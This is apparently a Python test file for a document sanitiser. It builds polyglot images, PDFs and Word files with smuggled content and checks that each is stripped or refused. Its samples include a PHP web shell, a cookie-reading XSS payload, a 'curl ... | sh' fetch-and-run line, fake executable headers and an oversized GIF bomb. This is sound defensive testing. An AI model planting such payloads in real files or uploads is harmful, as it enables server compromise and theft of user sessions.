"""Files that are two things at once. Where one of the two may be kept, nothing of the other is."""

from tests.documents.corpus import DOCX, JPEG, PDF, hostile, kept, refused, several
from tests.documents.corpus.making import (
    archive,
    chunk,
    encoded,
    paper,
    pdf,
    photo,
    segment,
    simple_pdf,
    stream,
    with_segments,
    word,
    writing,
)

PAGE = b"<html><body><script>alert(document.cookie)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
JAR = archive({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})
MZ = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"

several(
    "anh.jpg",
    kept(JPEG),
    {
        "a photo and an archive": lambda: photo() + archive({"a.exe": MZ}),
        "a photo and a java program": lambda: photo() + JAR,
        "a photo and a php program in a note": lambda: photo(comment=PHP),
        "a photo and a php program in its exif": lambda: with_segments(photo(), segment(0xE1, b"Exif\0\0" + PHP)),
        "a photo and a php program behind": lambda: photo() + PHP,
        "a photo and a page of the web": lambda: with_segments(photo(), segment(0xFE, PAGE)),
        "a photo and a pdf": lambda: with_segments(photo(), segment(0xFE, pdf())),
        "a photo and a pdf behind": lambda: photo() + pdf(),
        "a photo and a shell script": lambda: with_segments(photo(), segment(0xFE, b"\n#!/bin/sh\ncurl ke-xau|sh\n")),
        "a photo and a browser's script": lambda: with_segments(photo(), segment(0xE0, b"/*JFIF*/=1;alert(1)/*")),
        "a photo and a rar archive": lambda: photo() + b"Rar!\x1a\x07\0" + b"\0" * 200,
        "a photo and another photo's place": lambda: photo() + photo(comment=PHP),
        "a photo and a program behind": lambda: photo() + MZ,
    },
)
several(
    "anh.png",
    kept(JPEG),
    {
        "a screenshot and an archive": lambda: encoded(paper(), "PNG") + archive({"a.exe": MZ}),
        "a screenshot and a php program": lambda: _noted(chunk(b"tEXt", b"a\0" + PHP)),
        "a screenshot and a program in its palette": lambda: (
            encoded(paper(mode="P"), "PNG").replace(b"IEND", b"IEND", 1) + PHP
        ),
        "a screenshot and a page of the web": lambda: _noted(chunk(b"iTXt", b"a\0\0\0\0\0" + PAGE)),
        "a screenshot and a private chunk": lambda: _noted(chunk(b"prVt", MZ)),
    },
)


def _noted(extra: bytes) -> bytes:
    plain = encoded(paper(), "PNG")
    return plain[:33] + extra + plain[33:]


several(
    "anh.webp",
    kept(JPEG),
    {"a picture of the web and an archive": lambda: encoded(paper(), "WEBP", method=0) + archive({"a.exe": MZ})},
)
several(
    "quet.tif",
    kept(JPEG),
    {"a scan and a page of the web": lambda: encoded(paper(), "TIFF") + PAGE},
)
several(
    "anh.gif",
    refused("type"),
    {
        "a small film and a java program": lambda: encoded(paper(99, 99, "P"), "GIF") + JAR,
        "a small film and a browser's script": lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
        "a small film": lambda: encoded(
            paper(99, 99, "P"), "GIF", save_all=True, append_images=[paper(99, 99, "P")] * 9
        ),
        "a small film of 65000 by 65000": lambda: (
            b"GIF89a" + b"\xe8\xfd" * 2 + b"\0\0\0,\0\0\0\0" + b"\xe8\xfd" * 2 + b"\0\x02\x02D\x01\0;"
        ),
    },
)
several("anh.jpg", refused("type"), {"a small film under a photo's name": lambda: encoded(paper(99, 99, "P"), "GIF")})
several(
    "don.pdf",
    kept(PDF),
    {
        "a pdf and an archive": lambda: pdf() + archive({"a.exe": MZ}),
        "a pdf and a page of the web behind": lambda: pdf() + PAGE,
        "a pdf and a page of the web before": lambda: b"\n\n" + pdf().replace(b"%PDF-1", b"%PDF-1", 1) + PAGE,
        "a pdf and a page of the web in a note": lambda: simple_pdf().replace(b"\n%\xe2\xe3\xcf\xd3", b"\n%" + PAGE, 1),
        "a pdf and a page of the web in an unused object": lambda: simple_pdf(b"(" + PAGE + b")"),
        "a pdf and a program between its objects": lambda: simple_pdf().replace(
            b"endobj\n2 0", b"endobj\n" + MZ + b"\n2 0"
        ),
        "a pdf and a photo": lambda: simple_pdf(stream(photo())),
        "a pdf and a php program in a note of its page": lambda: (
            simple_pdf(content=stream(writing() + b"\n%" + b"note\n")) + PHP
        ),
    },
)
several(
    "don.pdf",
    refused("type"),
    {
        "a page of the web and a pdf": lambda: PAGE + pdf(),
        "a program and a pdf": lambda: MZ + pdf(),
        "a pdf far behind noughts": lambda: b"\0" * 900 + pdf(),
        "a photo and a pdf under the pdf's name": lambda: photo() + pdf(),
        "a page of the web named pdf": lambda: PAGE,
        "a photo named pdf": photo,
        "a word file named pdf": word,
    },
)
several(
    "don.docx",
    refused("type"),
    {"a pdf named as a word file": pdf, "a photo and a word file": lambda: photo() + word()},
)
several("anh.jpg", refused("type"), {"a pdf named as a photo": pdf, "a word file named as a photo": word})


@hostile("don.docx", kept(DOCX))
def a_word_file_and_what_hangs_behind_it():
    made = word()
    end = made.rindex(b"PK\x05\x06")
    return made[: end + 20] + len(PAGE).to_bytes(2, "little") + PAGE


@hostile("don.docx", kept(DOCX))
def a_word_file_and_a_program_between_its_parts():
    """A hole between the parts and the directory, which the end record accounts for."""
    made = word()
    start, end = made.index(b"PK\x01\x02"), made.rindex(b"PK\x05\x06")
    tail = bytearray(made[end:])
    tail[16:20] = (start + len(MZ)).to_bytes(4, "little")
    return made[:start] + MZ + made[start:end] + bytes(tail)


@hostile("don.html", refused("type"))
def a_pdf_that_would_be_saved_as_a_page():
    return pdf()


@hostile("bao-cao.mht", refused("type"))
def a_page_of_the_web_in_a_letter():
    return b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + PAGE
